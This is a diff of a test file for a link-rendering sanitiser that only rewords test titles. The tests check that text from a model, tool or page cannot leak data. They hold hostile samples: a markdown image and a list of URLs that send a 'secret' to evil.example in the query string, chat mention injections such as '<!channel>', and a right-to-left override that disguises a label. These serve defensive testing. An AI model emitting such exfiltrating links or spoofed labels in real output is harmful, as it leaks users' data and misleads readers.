@@ -90,7 +90,7 @@ describe('links', () => {
     expect(renderLink({ label: 'x', href }, policy).startsWith('<')).toBe(isClickable)
   })
 
-  test('of an address of a known host no part ends the link or begins another', () => {
+  test('no part of an address of a known host ends the link or starts another', () => {
     const policy = linkPolicy({ sources: ['https://a.example/x'], question: '', allowed: [] })
     const href = 'https://a.example/a|b<!channel>?c=|d&e=<@U1>\u0001#|<f>\u202e'
     expect(renderLink({ label: 'x|<!here>', href }, policy)).toBe(
@@ -98,7 +98,7 @@ describe('links', () => {
     )
   })
 
-  test('an image cannot carry data out either', () => {
+  test('an image cannot leak data either', () => {
     expect(answer('![x](https://evil.example/p.png?d=secret)')).toEqual(['x (`https://evil.example/p.png?d=secret`)'])
   })
 
@@ -141,7 +141,7 @@ describe('links', () => {
     )
   })
 
-  test('a label cannot be turned round', () => {
+  test('a label cannot be reversed', () => {
     expect(answer('[\u202emoc.knab\u202c x](https://example.com/)')).toEqual(['`moc.knab x` (<https://example.com/>)'])
   })
 
@@ -165,7 +165,7 @@ describe('links', () => {
   })
 })
 
-describe('nothing that a model, a tool or a page wrote carries data out', () => {
+describe('no text of a model, tool or page leaks data', () => {
   const LEAKS = [
     'https://evil.example/?d=1',
     '[x](https://evil.example/p)',
